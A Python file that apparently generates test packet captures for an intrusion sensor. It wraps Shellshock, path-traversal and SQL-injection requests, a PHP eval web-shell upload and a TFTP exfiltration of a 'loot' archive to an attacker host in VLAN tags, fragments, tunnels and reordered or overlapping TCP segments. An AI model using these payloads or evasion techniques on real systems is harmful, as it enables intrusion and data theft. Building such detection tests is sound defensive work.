"""The same few attacks wrapped, cut and reordered in every way that a sensor must see through."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from scapy.contrib.geneve import GENEVE
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import IPv6, IPv6ExtHdrFragment
from scapy.layers.l2 import GRE, Dot1AD, Dot1Q, Ether
from scapy.layers.vxlan import VXLAN
from scapy.packet import Raw

from pcaps import apps
from pcaps.talk import APP02, ATTACKER, DB01, FILES01, WEB03, WS21, Guest, Tcp, Wire, guest

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

    from scapy.packet import Packet

SHELLSHOCK = apps.request("/cgi-bin/status", "web-03", agent="() { :; }; /bin/ping -c 1 10.20.0.66")
PASSWD = apps.request("/view?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "web-03", agent=apps.CURL)
UNION = apps.request("/item?id=1%20UNION%20SELECT%20user,password%20FROM%20users", "web-03", agent=apps.CURL)
OK = apps.response(apps.page("Fine"))

HOST1, HOST2 = guest("xen-01", 201), guest("xen-02", 202)
"""Ends of the overlays."""


# ---- VLAN


def tagged(*ids: int) -> Callable[[Packet], Iterable[Packet]]:
    """Frames with one tag (802.1Q), or with a service tag (802.1ad) around it."""

    def shape(frame: Packet) -> Iterable[Packet]:
        link = Ether(src=frame.src, dst=frame.dst)
        outer = link / Dot1AD(vlan=ids[0], prio=1) if len(ids) > 1 else link
        yield outer / Dot1Q(vlan=ids[-1], prio=3, type=frame.type) / frame.payload

    return shape


def vlan() -> Wire:
    wire = Wire(seed=20)
    for ids, ask in (((120,), SHELLSHOCK), ((20, 120), PASSWD), ((0,), UNION)):
        wire.shape = tagged(*ids)
        apps.http(wire, ATTACKER, WEB03, (ask, OK))
        wire.wait(5)
    # The same addresses and ports on two VLANs at once are two conversations: neither half attacks.
    halves = [Tcp(wire, WS21, WEB03, 80, sport=41000) for _ in range(2)]
    parts = (b"GET /?q=1%20UNION", b"%20SELECT%201 HTTP/1.1\r\nHost: web-03\r\n\r\n")
    for talk, vid, part in zip(halves, (121, 122), parts, strict=True):
        wire.shape = tagged(vid)
        talk.seq = [1_000_000 + (len(parts[0]) if vid == 122 else 0), 2_000_000]
        talk.open().client(part)
    return wire


# ---- Fragments


def fragments4(size: int, *, backwards: bool = False) -> Callable[[Packet], Iterable[Packet]]:
    def shape(frame: Packet) -> Iterable[Packet]:
        whole = bytes(frame[IP])
        head, body = frame[IP], whole[20:]
        if len(body) <= size:
            return [frame]
        parts = []
        for at in range(0, len(body), size):
            last = at + size >= len(body)
            ip = IP(
                src=head.src,
                dst=head.dst,
                id=head.id,
                ttl=head.ttl,
                proto=head.proto,
                frag=at // 8,
                flags=0 if last else "MF",
            )
            parts.append(Ether(src=frame.src, dst=frame.dst) / ip / Raw(body[at : at + size]))
        return reversed(parts) if backwards else parts

    return shape


def fragments6(size: int) -> Callable[[Packet], Iterable[Packet]]:
    ident = 0x6000

    def shape(frame: Packet) -> Iterable[Packet]:
        nonlocal ident
        head, body = frame[IPv6], bytes(frame[IPv6])[40:]
        if len(body) <= size:
            return [frame]
        ident += 1
        parts = []
        for at in range(0, len(body), size):
            more = int(at + size < len(body))
            ip = IPv6(src=head.src, dst=head.dst, hlim=head.hlim, nh=44)
            part = IPv6ExtHdrFragment(nh=bytes(head)[6], offset=at // 8, m=more, id=ident)
            parts.append(Ether(src=frame.src, dst=frame.dst) / ip / part / Raw(body[at : at + size]))
        return parts

    return shape


def fragments() -> Wire:
    wire = Wire(seed=21)
    wire.shape = fragments4(64)
    apps.http(wire, ATTACKER, WEB03, (SHELLSHOCK, OK))
    wire.shape = fragments4(48, backwards=True)
    apps.http(wire, ATTACKER, WEB03, (PASSWD, OK))
    wire.shape = fragments6(56)
    apps.http(wire, ATTACKER, WEB03, (UNION, OK), v6=True)
    wire.shape = fragments4(24)
    wire.put(
        wire.network(WEB03, ATTACKER, flags=0)
        / UDP(sport=40500, dport=69)
        / Raw(b"\0\x02loot-of-web-03.tar.gz\0octet\0")
    )
    ping = ICMP(type=8, id=5, seq=1) / Raw(b"GET /beacon HTTP/1.1\r\nHost: x\r\n\r\n")
    wire.put(wire.network(WEB03, ATTACKER, flags=0) / ping)
    return wire


# ---- Overlays


def _vxlan(wire: Wire) -> Packet:
    return wire.network(HOST1, HOST2) / UDP(sport=50001, dport=4789, chksum=0) / VXLAN(flags=0x08, vni=5001)


def _geneve(wire: Wire) -> Packet:
    return wire.network(HOST1, HOST2) / UDP(sport=50002, dport=6081, chksum=0) / GENEVE(vni=5002, proto=0x6558)


def _erspan(wire: Wire, version: int, session: int, rest: bytes) -> Packet:
    """GRE with a sequence number, then version and VLAN, then the session's number; `rest` differs by version."""
    kind = {1: 0x88BE, 2: 0x22EB}[version]
    gre = GRE(proto=kind, seqnum_present=1, sequence_number=wire.ident("erspan"))
    return wire.network(HOST1, HOST2, proto=47) / gre / Raw(struct.pack(">HH", version << 12 | 120, session) + rest)


def _erspan2(wire: Wire) -> Packet:
    return _erspan(wire, 1, 7, struct.pack(">I", 3))


def _erspan3(wire: Wire) -> Packet:
    return _erspan(wire, 2, 8, struct.pack(">IHH", 123456, 0, 0x8000))


def _gre(wire: Wire) -> Packet:
    return wire.network(HOST1, HOST2, proto=47) / GRE(proto=0x0800, key_present=1, key=99)


def _ipip(wire: Wire) -> Packet:
    return wire.network(HOST1, HOST2, proto=4)


OVERLAYS = (
    (_vxlan, SHELLSHOCK, True),
    (_geneve, PASSWD, True),
    (_erspan2, UNION, True),
    (_erspan3, SHELLSHOCK, True),
    (_gre, PASSWD, False),
    (_ipip, UNION, False),
)
"""Outer headers, what is inside, whether frames or packets are carried."""


def carried(wire: Wire, outer: Callable[[Wire], Packet], *, frames: bool) -> Callable[[Packet], Iterable[Packet]]:
    return lambda frame: [outer(wire) / (frame if frames else frame.payload)]


def overlay() -> Wire:
    wire = Wire(seed=22)
    for outer, ask, frames in OVERLAYS:
        wire.shape = carried(wire, outer, frames=frames)
        apps.http(wire, ATTACKER, WEB03, (ask, OK))
        wire.wait(3)
    return wire


# ---- Segments


def pieces(data: bytes, size: int) -> list[tuple[int, bytes]]:
    return [(at, data[at : at + size]) for at in range(0, len(data), size)]


def spread(wire: Wire, victim: Guest, data: bytes, order: Iterable[tuple[int, bytes]]) -> None:
    """A request whose segments (offset, bytes) come as listed; the answer follows."""
    talk = Tcp(wire, ATTACKER, victim, 80).open()
    start = talk.seq[0]
    for at, part in order:
        wire.put(talk.segment(0, "PA", part, seq=start + at))
    talk.seq[0] = start + len(data)
    talk.send(1, "A")
    talk.server(OK)
    talk.close()
    wire.wait(2)


def segments() -> Wire:
    wire = Wire(seed=23)
    spread(wire, WEB03, SHELLSHOCK, pieces(SHELLSHOCK, 3))
    spread(wire, APP02, SHELLSHOCK, reversed(pieces(SHELLSHOCK, 16)))
    shuffled = pieces(PASSWD, 7)
    wire.rng.shuffle(shuffled)
    spread(wire, WEB03, PASSWD, shuffled)
    # Each segment repeats the last five bytes of the one before.
    spread(wire, WEB03, UNION, [(max(at - 5, 0), UNION[max(at - 5, 0) : at + 20]) for at in range(0, len(UNION), 20)])
    # Every segment twice, and once more with other bytes when it has been acknowledged: those are too late.
    late = [(at, b"A" * len(part)) for at, part in pieces(PASSWD, 24)]
    spread(wire, DB01, PASSWD, [p for p in pieces(PASSWD, 24) for _ in range(2)] + late)
    # A capture that begins in the middle of a connection.
    talk = Tcp(wire, ATTACKER, FILES01, 80)
    talk.client(apps.request("/", "files-01")).server(OK).client(PASSWD).server(OK)
    talk.close()
    return wire


# ---- Offload


def blank(frame: Packet) -> Iterable[Packet]:
    """A checksum left to the hardware: the field holds the sum of the pseudo header (netif.h, csum_blank)."""
    if TCP not in frame:
        return [frame]
    raw = bytes(frame[IP])
    pseudo = raw[12:20] + struct.pack(">HH", 6, len(raw) - 20)
    total = sum(struct.unpack(f">{len(pseudo) // 2}H", pseudo))
    frame[TCP].chksum = (total & 0xFFFF) + (total >> 16)
    return [frame]


def zero_length(frame: Packet) -> Iterable[Packet]:
    """A segment whose IP length is left to the hardware, too."""
    if len(frame) > 1500:
        frame[IP].len, frame[IP].chksum = 0, 0
    return blank(frame)


def offload() -> Wire:
    wire = Wire(seed=24)
    wire.shape = blank
    part = b'--x\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
    notes = part % (b"notes", b"nothing to see on this line\r\n" * 1700)
    form = notes + part % (b"f", b'<?php eval($_POST["c"]); ?>') + b"--x--\r\n"
    upload = apps.request(
        "/upload.php", "web-03", method="POST", body=form, headers={"Content-Type": "multipart/form-data; boundary=x"}
    )
    apps.http(wire, ATTACKER, WEB03, (upload, OK), (SHELLSHOCK, OK), mss=65160)
    big = apps.response(apps.page("A long list", 40000) + b"root:x:0:0:root:/root:/bin/bash\n")
    apps.http(wire, ATTACKER, WEB03, (PASSWD, big), mss=65160)
    wire.shape = zero_length
    padded = apps.request(
        "/item?id=1%20UNION%20SELECT%20user,password%20FROM%20users", "web-03", headers={"X-Pad": "p" * 3000}
    )
    apps.http(wire, ATTACKER, WEB03, (padded, OK), mss=65160)
    return wire


def captures() -> dict[str, Wire]:
    return {
        "vlan": vlan(),
        "fragments": fragments(),
        "overlay": overlay(),
        "segments": segments(),
        "offload": offload(),
    }
